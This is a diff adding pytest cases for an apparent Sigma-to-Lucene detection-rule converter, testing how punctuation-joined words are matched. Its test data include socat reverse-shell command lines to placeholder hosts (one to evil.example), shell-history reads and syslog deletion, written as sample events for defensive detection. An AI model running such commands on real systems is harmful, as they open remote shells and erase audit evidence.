@@ -468,6 +468,92 @@ def test_punctuation_that_always_ends_a_word_is_dropped(
     assert matched == set(events)  # every message contains the value: none may be missed
 
 
+# Punctuation at an open end that the standard analyser may join to the next word (UAX #29:
+# ':' between letters, ',' between digits, '.' and "'" between two letters or two digits): the
+# word beside it is a lower-case word wildcard on that side, ANDed with the rest's phrase. Every
+# message Sigma matches, the joined forms included, must be found; what else is found is the
+# documented over-match of the warned superset (SigmaHQ's Linux rules hold each of these values).
+JOINING_CASES = [
+    (
+        ".bash_history",  # lnx_auditd_susp_histfile_operations
+        {
+            "dotfile": "cat /root/.bash_history",
+            "joined": "vi x.bash_history",  # one word: "x.bash_history"
+            "longer": "cp .bash_history.bak /tmp",
+            "other": "cat /root/.bashrc",
+        },
+        {"undotted": "cat /root/bash_history"},  # "bash_history" is a word of its own
+    ),
+    (
+        "/syslog.",  # lnx_clear_syslog (there under 'not': refused)
+        {
+            "digit": "mv /var/log/syslog.1 /tmp",  # "syslog" "1"
+            "joined": "rm /var/log/syslog.old",  # one word: "syslog.old"
+            "end": "ls /var/log/syslog. done",
+            "other": "rm /var/log/messages",
+        },
+        {"no_dot": "rm /var/log/syslog", "no_slash": "rm syslog.old"},
+    ),
+    (
+        "Connection refused: too many sessions for this address.",  # lnx_vsftpd_susp_error_messages
+        {
+            "end": "Connection refused: too many sessions for this address.",
+            "joined": "Connection refused: too many sessions for this address.Bye",
+            "host": "Connection refused: too many sessions for this host.",
+        },
+        # the word after the phrase is not enforced to follow it
+        {"apart": "Connection refused: too many sessions for this host; bad address"},
+    ),
+    (
+        "GID=0,",  # lnx_privileged_user_creation
+        {
+            "root": "new user: name=john, UID=0, GID=0, home=/home/john",
+            "joined": "new user: name=x, GID=0,5 home=/x",  # one word: "0,5"
+            "wheel": "new user: name=b, UID=1000, GID=10, home=/home/b",
+        },
+        {"uid_zero": "new user: name=c, UID=0, GID=10, home=/home/c"},
+    ),
+    (
+        "socat exec:",  # lnx_shell_susp_commands ('socat exec:*')
+        {
+            "joined": "socat exec:sh tcp:10.0.0.1:4242",  # one word: "exec:sh"
+            "quoted": "socat exec:'bash -li',pty tcp:10.0.0.1:4242",
+            "other": "socat -d - tcp:10.0.0.1:4242",
+        },
+        {"apart": "socat tcp:10.0.0.1:4242 exec"},
+    ),
+    (
+        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:",  # lnx_shell_susp_rev_shells
+        {
+            "digits": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
+            "joined": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:evil.example:1",
+            "other": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane udp:10.0.0.1:53",
+        },
+        {"apart": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane; ping tcp"},
+    ),
+]
+
+
+@pytest.mark.parametrize(("value", "messages", "over"), JOINING_CASES)
+def test_punctuation_that_may_join_the_next_word_is_a_word_wildcard(
+    lucene, value: str, messages: dict[str, str], over: dict[str, str]
+) -> None:
+    from sigma.collection import SigmaCollection
+
+    from taintsigma import convert_rules
+
+    everything = {**messages, **over}
+    events = {name: {**LINUX_EVENT, "message": m} for name, m in everything.items()}
+    rule = make_rule({"keywords": [_sigma_literal(value)]}, "keywords")
+    [done] = convert_rules(SigmaCollection([rule]), "lucene").conversions
+    assert len(done.warnings) == 1 and "may join" in done.warnings[0]
+    sigma = {name for name, m in everything.items() if value.lower() in m.lower()}
+    assert sigma and not sigma & set(over)
+    [matched] = lucene(events, [done.query])
+    assert sigma <= matched, done.query
+    assert matched - sigma == set(over), done.query
+
+
 # ---- regular expressions: Sigma's search, translated, run by real Lucene -------------------
 # tests/engines/lucene/LuceneRegexVerdicts.java indexes keyword values and runs either a
 # query_string (the lucene target's output, parsed by the classic QueryParser) or a bare
